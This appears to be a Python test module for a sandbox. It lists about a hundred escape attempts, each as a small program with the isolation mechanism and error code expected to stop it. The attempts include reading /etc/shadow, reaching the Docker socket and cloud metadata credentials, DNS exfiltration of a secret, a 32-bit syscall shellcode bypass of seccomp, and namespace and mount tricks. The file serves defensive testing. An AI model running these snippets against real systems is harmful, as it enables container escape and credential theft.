"""What a tenant tries in order to get out, and the mechanism that stops it.

Each program runs inside a sandbox, after `PRELUDE`.  It has got out if it ends with `reached` true;
an OSError stops it, and `errors` names those that show that the right mechanism did.  `HOST` says
what the host has put within reach of whoever is not in a sandbox (`surroundings.py`).
"""

from __future__ import annotations

from dataclasses import dataclass

PRELUDE = """
import ctypes, errno, fcntl, json, mmap, os, resource, signal, socket, struct, sys
HOST = json.loads(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def check(result):
    if result is None or result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
def call(name, *args):
    wide = [ctypes.c_long(arg) if isinstance(arg, int) else arg for arg in args]
    return check(libc.syscall(ctypes.c_long(HOST["calls"][name]), *wide))
def read(path):
    with open(path, "rb") as file:
        return file.read(64)
def connect(family, kind, address):
    with socket.socket(family, kind) as client:
        client.settimeout(1)
        client.connect(address)
        client.send(b"x")
    return True
"""

EPILOGUE = """
try:
    reached = False
    exec(compile(sys.argv[2], "attempt", "exec"))
    print(json.dumps(["reached" if reached else "stopped", ""]))
except OSError as error:
    print(json.dumps(["stopped", errno.errorcode.get(error.errno, type(error).__name__)]))
except (ValueError, AttributeError, PermissionError) as error:
    print(json.dumps(["stopped", type(error).__name__]))
"""


@dataclass(frozen=True)
class Attempt:
    """One way out."""

    name: str
    mechanism: str
    program: str
    errors: tuple[str, ...] = ()
    """What it may be stopped by; empty: it may also just find nothing."""


_DENIED = ("EPERM",)
_SECCOMP = "seccomp"
_MOUNTS = "mount namespace"
_READ_ONLY = "read-only root"
_NETWORK = "network namespace"
_CAPABILITIES = "no capabilities"
_USER = "user namespace"
_PIDS = "pid namespace"
_IPC = "ipc namespace"
_DUMPABLE = "a guest that is not dumpable"
_LIMITS = "hard resource limits"
_DESCRIPTORS = "no inherited descriptors"

ATTEMPTS = [
    # The host's files.
    Attempt(
        "reads the password hashes", _MOUNTS, "reached = bool(read('/etc/shadow'))", ("ENOENT",)
    ),
    Attempt("reads a file of the host", _MOUNTS, "reached = bool(read(HOST['file']))", ("ENOENT",)),
    Attempt(
        "climbs out of the root",
        _MOUNTS,
        "reached = bool(read('/..' * 40 + HOST['file']))",
        ("ENOENT",),
    ),
    Attempt(
        "follows a link to the host's file",
        _MOUNTS,
        "os.symlink(HOST['file'], '/tmp/link'); reached = bool(read('/tmp/link'))",
        ("ENOENT",),
    ),
    Attempt(
        "reads root's own files",
        _MOUNTS,
        "reached = bool(read('/root/.profile') or read('/root/.bashrc'))",
        ("ENOENT", "EACCES"),
    ),
    Attempt("looks at devices in /sys", _MOUNTS, "reached = bool(os.listdir('/sys'))", ("ENOENT",)),
    Attempt(
        "talks to the container engine",
        _MOUNTS,
        "reached = connect(socket.AF_UNIX, socket.SOCK_STREAM, '/var/run/docker.sock')",
        ("ENOENT",),
    ),
    Attempt(
        "sees what the host mounts",
        _MOUNTS,
        "reached = HOST['mark'].encode() in open('/proc/self/mountinfo', 'rb').read()",
    ),
    Attempt(
        "replaces a system program",
        _READ_ONLY,
        "open('/usr/bin/env', 'wb'); reached = True",
        ("EROFS",),
    ),
    Attempt(
        "replaces the interpreter that others run",
        _READ_ONLY,
        "fd = os.open('/proc/self/exe', os.O_WRONLY); reached = fd >= 0",
        ("EROFS", "ETXTBSY", "EACCES"),
    ),
    Attempt(
        "adds a user", _READ_ONLY, "open('/etc/passwd', 'a'); reached = True", ("EROFS", "EACCES")
    ),
    Attempt(
        "links a system file to where it can write",
        _READ_ONLY,
        "os.link('/etc/passwd', '/tmp/passwd'); reached = True",
        ("EXDEV", "EPERM"),
    ),
    Attempt(
        "tampers with the guest's own code",
        _READ_ONLY,
        "open('/.sandpool/lib/guest/main.py', 'a'); reached = True",
        ("EROFS", "EACCES", "ENOENT"),
    ),
    # The kernel's switches.
    Attempt(
        "sets a core pattern",
        "read-only /proc",
        "open('/proc/sys/kernel/core_pattern', 'w'); reached = True",
        ("EROFS", "EACCES"),
    ),
    Attempt(
        "pulls the system request key",
        "read-only /proc",
        "open('/proc/sysrq-trigger', 'w'); reached = True",
        ("EROFS", "EACCES", "ENOENT"),
    ),
    Attempt(
        "allows itself user namespaces",
        "read-only /proc",
        "open('/proc/sys/user/max_user_namespaces', 'w'); reached = True",
        ("EROFS", "EACCES"),
    ),
    Attempt(
        "exempts itself from the memory killer",
        "read-only /proc",
        "open('/proc/self/oom_score_adj', 'w').write('-1000'); reached = True",
        ("EROFS", "EACCES", "EPERM"),
    ),
    Attempt(
        "maps itself more ids",
        _USER,
        "open('/proc/self/uid_map', 'w').write('0 0 1'); reached = True",
        ("EROFS", "EACCES", "EPERM"),
    ),
    Attempt("reads the kernel's memory", "masked /proc", "reached = bool(read('/proc/kcore'))", ()),
    Attempt("reads others' keys", "masked /proc", "reached = bool(read('/proc/keys'))", ()),
    Attempt(
        "counts the host's interrupts", "masked /proc", "reached = bool(read('/proc/interrupts'))"
    ),
    Attempt(
        "learns where the kernel lies",
        _CAPABILITIES,
        "reached = any(int(line.split()[0], 16) for line in open('/proc/kallsyms'))",
    ),
    Attempt(
        "leaves its control group",
        _MOUNTS,
        "open('/sys/fs/cgroup/cgroup.procs', 'w'); reached = True",
        ("ENOENT",),
    ),
    Attempt(
        "mounts the control groups",
        _SECCOMP,
        "check(libc.mount(b'cgroup', b'/tmp', b'cgroup2', 0, None)); reached = True",
        _DENIED,
    ),
    # Mounts and roots.
    Attempt(
        "mounts a file system",
        _SECCOMP,
        "check(libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)); reached = True",
        _DENIED,
    ),
    Attempt(
        "makes the root writable again",
        _SECCOMP,
        "check(libc.mount(None, b'/', None, 0x20 | 0x1000, None)); reached = True",
        _DENIED,
    ),
    Attempt(
        "uncovers what /proc hides",
        _SECCOMP,
        "check(libc.umount2(b'/proc', 2)); reached = True",
        _DENIED,
    ),
    Attempt("changes its root", _SECCOMP, "os.chroot('/tmp'); reached = True", _DENIED),
    Attempt(
        "pivots its root", _SECCOMP, "call('pivot_root', b'/tmp', b'/tmp'); reached = True", _DENIED
    ),
    Attempt(
        "clones a mount", _SECCOMP, "call('open_tree', -100, b'/', 1); reached = True", _DENIED
    ),
    Attempt("opens a file system", _SECCOMP, "call('fsopen', b'proc', 0); reached = True", _DENIED),
    Attempt(
        "asks for a file handle",
        _SECCOMP,
        "buffer = ctypes.create_string_buffer(256); buffer[0] = 128\n"
        "call('name_to_handle_at', -100, b'/tmp', buffer, ctypes.byref(ctypes.c_int()), 0)\n"
        "reached = True",
        _DENIED,
    ),
    Attempt(
        "opens a file by its handle",
        _SECCOMP,
        "call('open_by_handle_at', 3, ctypes.create_string_buffer(256), 0); reached = True",
        _DENIED,
    ),
    Attempt(
        "makes a disk's device",
        _CAPABILITIES,
        "os.mknod('/tmp/disk', 0o060666, os.makedev(8, 0)); reached = True",
        _DENIED,
    ),
    Attempt(
        "makes a device of the memory",
        _CAPABILITIES,
        "os.mknod('/tmp/mem', 0o020666, os.makedev(1, 1)); reached = True",
        _DENIED,
    ),
    Attempt(
        "opens the memory's device", "minimal /dev", "reached = bool(read('/dev/mem'))", ("ENOENT",)
    ),
    Attempt(
        "reads the kernel's log", "minimal /dev", "reached = bool(read('/dev/kmsg'))", ("ENOENT",)
    ),
    # Namespaces and privileges.
    Attempt(
        "makes a user namespace",
        _SECCOMP,
        "check(libc.unshare(0x10000000)); reached = True",
        _DENIED,
    ),
    Attempt(
        "forks into a user namespace",
        _SECCOMP,
        "pid = call('clone', 0x10000000 | 17, 0, 0, 0, 0)\n"
        "os._exit(0) if pid == 0 else os.waitpid(pid, 0); reached = True",
        _DENIED,
    ),
    Attempt(
        "forks by clone3, whose flags no filter sees",
        _SECCOMP,
        "call('clone3', ctypes.create_string_buffer(88), 88); reached = True",
        ("ENOSYS",),
    ),
    Attempt(
        "enters the guest's namespaces",
        _DUMPABLE,
        "os.open('/proc/1/ns/mnt', os.O_RDONLY); reached = True",
        ("EACCES", "EPERM"),
    ),
    Attempt(
        "enters a namespace that it has",
        _SECCOMP,
        "check(libc.setns(os.open('/proc/self/ns/net', 0), 0)); reached = True",
        _DENIED,
    ),
    Attempt("becomes root", _USER, "os.setuid(0); reached = True", ("EPERM", "EINVAL")),
    Attempt("joins root's group", _USER, "os.setgroups([0]); reached = True", ("EPERM", "EINVAL")),
    Attempt(
        "gives itself capabilities",
        _CAPABILITIES,
        "header = struct.pack('=Ii', 0x20080522, 0)\n"
        "check(libc.capset(header, struct.pack('=6I', *[0xFFFFFFFF] * 6))); reached = True",
        _DENIED,
    ),
    Attempt(
        "takes back its privileges by a set-uid program",
        "no_new_privs and nosuid",
        "import shutil, subprocess\n"
        "shutil.copy('/bin/sh', '/tmp/sh'); os.chmod('/tmp/sh', 0o6755)\n"
        "reached = subprocess.check_output(['/tmp/sh', '-c', 'id -u']) != b'1000\\n'",
    ),
    Attempt(
        "forgets that it may gain no privileges",
        "no_new_privs",
        "check(libc.prctl(38, 0, 0, 0, 0)); reached = True",
        ("EINVAL",),
    ),
    Attempt(
        "unlocks what root means",
        _CAPABILITIES,
        "check(libc.prctl(28, 0, 0, 0, 0)); reached = True",
        _DENIED,
    ),
    Attempt(
        "raises a limit",
        _LIMITS,
        "hard = resource.getrlimit(resource.RLIMIT_NPROC)[1]\n"
        "resource.setrlimit(resource.RLIMIT_NPROC, (hard + 1, hard + 1)); reached = True",
        ("ValueError", "EPERM"),
    ),
    Attempt(
        "raises how many files it may open",
        _LIMITS,
        "hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]\n"
        "resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard + 1)); reached = True",
        ("ValueError", "EPERM"),
    ),
    Attempt(
        "raises a limit of the guest's, from which its own come",
        _LIMITS,
        "hard = 1 << 40\nresource.prlimit(1, resource.RLIMIT_NOFILE, (hard, hard)); reached = True",
        ("ValueError", "EPERM"),
    ),
    Attempt(
        "raises its priority", _CAPABILITIES, "os.nice(-10); reached = True", ("EPERM", "EACCES")
    ),
    Attempt(
        "makes itself a real-time process",
        _CAPABILITIES,
        "os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)); reached = True",
        _DENIED,
    ),
    # The guest.
    Attempt(
        "kills the guest",
        _PIDS,
        "os.kill(1, 9)\nimport time; time.sleep(0.01); reached = not os.path.exists('/proc/1')",
    ),
    Attempt(
        "traces the guest", _DUMPABLE, "check(libc.ptrace(16, 1, 0, 0)); reached = True", _DENIED
    ),
    Attempt(
        "reads the guest's memory",
        _DUMPABLE,
        "reached = bool(read('/proc/1/mem'))",
        ("EACCES", "EPERM"),
    ),
    Attempt(
        "reads the guest's environment",
        _DUMPABLE,
        "reached = bool(read('/proc/1/environ'))",
        ("EACCES", "EPERM"),
    ),
    Attempt(
        "reopens what the guest has open",
        _DUMPABLE,
        "os.readlink('/proc/1/fd/3'); reached = True",
        ("EACCES", "EPERM"),
    ),
    Attempt(
        "walks through the guest's root",
        _DUMPABLE,
        "reached = bool(os.listdir('/proc/1/root'))",
        ("EACCES", "EPERM"),
    ),
    Attempt(
        "copies from the guest's memory",
        _DUMPABLE,
        "buffer = ctypes.create_string_buffer(8)\n"
        "vector = struct.pack('PN', ctypes.addressof(buffer), 8)\n"
        "call('process_vm_readv', 1, vector, 1, vector, 1, 0); reached = True",
        _DENIED,
    ),
    Attempt(
        "takes a descriptor from the guest",
        _SECCOMP,
        "call('pidfd_getfd', os.pidfd_open(os.getpid()), 0, 0); reached = True",
        _DENIED,
    ),
    Attempt(
        "finds a descriptor that was left open",
        _DESCRIPTORS,
        "reached = [fd for fd in os.listdir('/proc/self/fd') if int(fd) > 3] != []",
    ),
    # Other processes.
    Attempt(
        "signals a process of the host",
        _PIDS,
        "os.kill(HOST['pid'], 9); reached = True",
        ("ESRCH",),
    ),
    Attempt(
        "sees processes of the host",
        _PIDS,
        "reached = os.path.exists('/proc/%d' % HOST['pid']) or len(\n"
        "    [n for n in os.listdir('/proc') if n.isdigit()]) > 3",
    ),
    Attempt(
        "finds the host's environment",
        "cleaned environment",
        "reached = HOST['secret'] in repr(dict(os.environ))",
    ),
    # Rare system calls.
    Attempt(
        "loads a program into the kernel", _SECCOMP, "call('bpf', 0, 0, 0); reached = True", _DENIED
    ),
    Attempt(
        "sets up an io_uring",
        _SECCOMP,
        "call('io_uring_setup', 4, ctypes.create_string_buffer(120)); reached = True",
        _DENIED,
    ),
    Attempt("handles page faults", _SECCOMP, "call('userfaultfd', 1); reached = True", _DENIED),
    Attempt(
        "counts events of the processor",
        _SECCOMP,
        "call('perf_event_open', ctypes.create_string_buffer(128), 0, -1, -1, 0); reached = True",
        _DENIED,
    ),
    Attempt("uses the key rings", _SECCOMP, "call('keyctl', 0, -3, 1); reached = True", _DENIED),
    Attempt(
        "adds a key",
        _SECCOMP,
        "call('add_key', b'user', b'k', b'v', 1, -3); reached = True",
        _DENIED,
    ),
    Attempt("loads a module", _SECCOMP, "call('init_module', 0, 0, b''); reached = True", _DENIED),
    Attempt(
        "starts another kernel", _SECCOMP, "call('kexec_load', 0, 0, 0, 0); reached = True", _DENIED
    ),
    Attempt(
        "restarts the machine",
        _SECCOMP,
        "call('reboot', 0xfee1dead, 672274793, 0, 0); reached = True",
        _DENIED,
    ),
    Attempt("adds swap", _SECCOMP, "call('swapon', b'/tmp/x', 0); reached = True", _DENIED),
    Attempt("accounts for processes", _SECCOMP, "call('acct', 0); reached = True", _DENIED),
    Attempt(
        "reads the kernel's log by call",
        _SECCOMP,
        "call('syslog', 3, ctypes.create_string_buffer(64), 64); reached = True",
        _DENIED,
    ),
    Attempt("watches all files", _SECCOMP, "call('fanotify_init', 0, 0); reached = True", _DENIED),
    Attempt(
        "compares kernel objects", _SECCOMP, "call('kcmp', 1, 1, 0, 0, 0); reached = True", _DENIED
    ),
    Attempt(
        "moves memory between nodes",
        _SECCOMP,
        "call('migrate_pages', 0, 0, 0, 0); reached = True",
        _DENIED,
    ),
    Attempt(
        "makes readable memory executable",
        _SECCOMP,
        "call('personality', 0x0400000); reached = True",
        ("ENOSYS",),
    ),
    Attempt(
        "makes a call that nobody knows",
        _SECCOMP,
        "check(libc.syscall(9999)); reached = True",
        ("ENOSYS",),
    ),
    Attempt(
        "changes the host's name", _SECCOMP, "socket.sethostname('mine'); reached = True", _DENIED
    ),
    Attempt(
        "sets the clock",
        _SECCOMP,
        "call('clock_settime', 0, struct.pack('ll', 0, 0)); reached = True",
        _DENIED,
    ),
    Attempt(
        "types into its terminal",
        _SECCOMP,
        "import pty; ours, theirs = pty.openpty()\n"
        "fcntl.ioctl(theirs, 0x5412, b'x'); reached = True",
        _DENIED,
    ),
    # The network.
    Attempt(
        "connects to the host's loopback",
        _NETWORK,
        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', HOST['port']))",
        ("ECONNREFUSED",),
    ),
    Attempt(
        "sends to the host's loopback",
        _NETWORK,
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', HOST['udp']))",
    ),
    Attempt(
        "connects to an abstract socket of the host",
        _NETWORK,
        "reached = connect(socket.AF_UNIX, socket.SOCK_STREAM, '\\0' + HOST['abstract'])",
        ("ECONNREFUSED",),
    ),
    Attempt(
        "connects to a socket file of the host",
        _MOUNTS,
        "reached = connect(socket.AF_UNIX, socket.SOCK_STREAM, HOST['socket'])",
        ("ENOENT",),
    ),
    Attempt(
        "connects to the outside",
        _NETWORK,
        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, ('192.0.2.1', 80))",
        ("ENETUNREACH",),
    ),
    Attempt(
        "asks the cloud for credentials",
        _NETWORK,
        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, ('169.254.169.254', 80))",
        ("ENETUNREACH",),
    ),
    Attempt(
        "resolves a name outside",
        _NETWORK,
        "try:\n    reached = bool(socket.getaddrinfo('example.com', 80))\n"
        "except socket.gaierror:\n    pass",
    ),
    Attempt(
        "sees the host's interfaces",
        _NETWORK,
        "reached = [name for _, name in socket.if_nameindex()] != ['lo']",
    ),
    Attempt(
        "adds an address to its network",
        _CAPABILITIES,
        "with socket.socket(16, 3, 0) as route:\n"
        "    body = struct.pack('BBBBI', 2, 32, 0, 0, 1) + struct.pack('HH4s', 8, 2, bytes(4))\n"
        "    route.send(struct.pack('IHHII', 16 + len(body), 20, 0x605, 1, 0) + body)\n"
        "    number = struct.unpack_from('i', route.recv(4096), 16)[0]\n"
        "if number: raise OSError(-number, '')\n"
        "reached = True",
        _DENIED,
    ),
    Attempt(
        "captures packets", _SECCOMP, "socket.socket(17, 3, 0); reached = True", ("EAFNOSUPPORT",)
    ),
    Attempt(
        "talks to the hypervisor",
        _SECCOMP,
        "socket.socket(40, 1, 0); reached = True",
        ("EAFNOSUPPORT",),
    ),
    Attempt(
        "uses the kernel's ciphers",
        _SECCOMP,
        "socket.socket(38, 5, 0); reached = True",
        ("EAFNOSUPPORT",),
    ),
    Attempt(
        "sends on a vehicle's bus",
        _SECCOMP,
        "socket.socket(29, 3, 1); reached = True",
        ("EAFNOSUPPORT",),
    ),
    Attempt(
        "talks to the audit system",
        _SECCOMP,
        "socket.socket(16, 3, 9); reached = True",
        ("ENOSYS",),
    ),
    Attempt("sends raw packets", _CAPABILITIES, "socket.socket(2, 3, 1); reached = True", _DENIED),
    # Memory that processes share.
    Attempt(
        "attaches the host's shared memory",
        _IPC,
        "check(libc.shmget(HOST['shm_key'], 0, 0)); reached = True",
        ("ENOENT",),
    ),
    Attempt(
        "opens the host's named shared memory",
        _MOUNTS,
        "reached = bool(read('/dev/shm/' + HOST['shm_name']))",
        ("ENOENT",),
    ),
    # Another sandbox of the same pool.
    Attempt(
        "reads another sandbox's file",
        _MOUNTS,
        "reached = bool(read('/tmp/neighbour'))",
        ("ENOENT",),
    ),
    Attempt(
        "connects to another sandbox's port",
        _NETWORK,
        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', 4321))",
        ("ECONNREFUSED",),
    ),
    Attempt(
        "connects to another sandbox's abstract socket",
        _NETWORK,
        "reached = connect(socket.AF_UNIX, socket.SOCK_STREAM, '\\0neighbour')",
        ("ECONNREFUSED",),
    ),
]

FOREIGN_CALL = """
import ctypes, mmap
code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
code.write(bytes.fromhex("b814000000cd80c3"))  # mov eax, 20; int 0x80; ret
address = ctypes.addressof(ctypes.c_char.from_buffer(code))
print("reached", ctypes.CFUNCTYPE(ctypes.c_int)(address)())
"""
"""Makes a system call of 32-bit x86, which has other numbers than the filter knows."""

_DEFAULT = "default deny in the gate"
_GUARD = "guarded ranges before what is listed"
_OWN = "guard of the host's addresses"
_RESOLVER = "a resolver that knows listed names only"
_REBINDING = "a resolver that leaves out guarded addresses"
_CABLES = "a cable of its own for each sandbox"

NETWORK_POLICY = {
    "allow": [
        {"host": "203.0.113.0/24", "ports": [443]},
        {"host": "128.0.0.0/1", "ports": [8080], "protocol": "any"},
        {"host": "*.pypi.test", "ports": [443]},
    ]
}
"""What the sandbox of the following attempts may reach: wide, as policies in need of a guard are."""

NETWORK_ATTEMPTS = [
    # Each is tried on a host of its own (`tests/integration/egress/world.py`), whose addresses
    # `HOST` names, and which has remembered whoever came by.
    Attempt(
        "connects to an address that is not listed",
        _DEFAULT,
        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, (HOST['other'], 443))",
        ("EHOSTUNREACH",),
    ),
    Attempt(
        "connects to a port that is not listed",
        _DEFAULT,
        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, (HOST['listed'], 80))",
        ("EHOSTUNREACH",),
    ),
    Attempt(
        "speaks another protocol to what is listed",
        _DEFAULT,
        "client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); client.settimeout(2); "
        "client.connect((HOST['listed'], 443)); client.send(b'x'); reached = bool(client.recv(16))",
        ("EHOSTUNREACH",),
    ),
    Attempt(
        "asks the cloud for credentials, by a network that has everything",
        _GUARD,
        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, (HOST['metadata'], 8080))",
        ("EHOSTUNREACH",),
    ),
    Attempt(
        "connects to the host's neighbour, by a network that has everything",
        _GUARD,
        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, (HOST['neighbour'], 8080))",
        ("EHOSTUNREACH",),
    ),
    Attempt(
        "connects to the host by its address in a network that is listed",
        _OWN,
        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, (HOST['host too'], 443))",
        ("EHOSTUNREACH",),
    ),
    Attempt(
        "connects to the host by its own address",
        _OWN,
        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, (HOST['host'], 8080))",
        ("EHOSTUNREACH",),
    ),
    Attempt(
        "connects to the host's end of the uplink",
        _GUARD,
        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, ('198.19.4.1', 8080))",
        ("EHOSTUNREACH",),
    ),
    Attempt(
        "connects to the host by the far end of a program's uplink",
        _GUARD,
        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, ('198.19.0.1', 8080))",
        ("EHOSTUNREACH",),
    ),
    Attempt(
        "connects to its gate",
        _DEFAULT,
        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, ('198.18.0.1', 8080))",
        ("EHOSTUNREACH",),
    ),
    Attempt(
        "asks another resolver",
        _DEFAULT,
        "client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); client.settimeout(2); "
        "client.connect((HOST['resolver'], 53)); client.send(b'x'); reached = bool(client.recv(16))",
        ("EHOSTUNREACH",),
    ),
    Attempt(
        "resolves a name that is not listed",
        _RESOLVER,
        "reached = bool(socket.gethostbyname('other.test'))",
        ("gaierror",),
    ),
    Attempt(
        "tells a secret by asking for a name",
        _RESOLVER,
        "reached = bool(socket.gethostbyname('hunter2.exfiltration.test'))",
        ("gaierror",),
    ),
    Attempt(
        "has a listed name point it at the host's neighbour",
        _REBINDING,
        "reached = bool(socket.gethostbyname('private.pypi.test'))",
        ("gaierror",),
    ),
    Attempt(
        "has a listed name point it at the host",
        _REBINDING,
        "reached = bool(socket.gethostbyname('host.pypi.test'))",
        ("gaierror",),
    ),
    Attempt(
        "connects to the neighbour's address",
        _CABLES,
        "reached = connect(socket.AF_INET, socket.SOCK_STREAM, (HOST['sandbox'], 8080))",
        ("EHOSTUNREACH",),
    ),
    Attempt(
        "sends by the neighbour's address",
        _CAPABILITIES,
        "client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "client.setsockopt(socket.IPPROTO_IP, 15, 1)\n"  # IP_FREEBIND
        "client.bind((HOST['sandbox'], 0)); client.sendto(b'x', (HOST['listed'], 8080))\n"
        "reached = True",
        ("ENETUNREACH", "EINVAL"),
    ),
    Attempt(
        "sees the neighbour's packets",
        _SECCOMP,
        "socket.socket(socket.AF_PACKET, socket.SOCK_RAW); reached = True",
        ("EAFNOSUPPORT",),
    ),
    Attempt(
        "changes the rules",
        _SECCOMP,
        "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12); reached = True",
        ("ENOSYS", "EPERM"),
    ),
    Attempt(
        "gives its cable an address",
        _CAPABILITIES,
        "index = socket.if_nametoindex('eth0')\n"
        "route = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\n"
        "address = socket.inet_aton(HOST['sandbox'])\n"
        "body = struct.pack('=BBBBI', 2, 32, 0, 0, index) + struct.pack('=HH', 8, 2) + address\n"
        "route.send(struct.pack('=IHHII', 16 + len(body), 20, 0x405, 1, 0) + body)\n"
        "error = -struct.unpack_from('=i', route.recv(4096), 16)[0]\n"
        "if error:\n    raise OSError(error, os.strerror(error))\n"
        "reached = True",
        ("EPERM",),
    ),
    Attempt(
        "joins the gate's network",
        _SECCOMP,
        "for number in range(1, 64):\n"
        "    try:\n        call('setns', number, 0x40000000); reached = True\n"
        "    except OSError as error:\n        last = error\n"
        "raise last",
        _DENIED,
    ),
    Attempt(
        "goes by IPv6",
        "no IPv6",
        "reached = connect(socket.AF_INET6, socket.SOCK_STREAM, ('2001:db8::1', 443))",
        ("ENETUNREACH",),
    ),
]
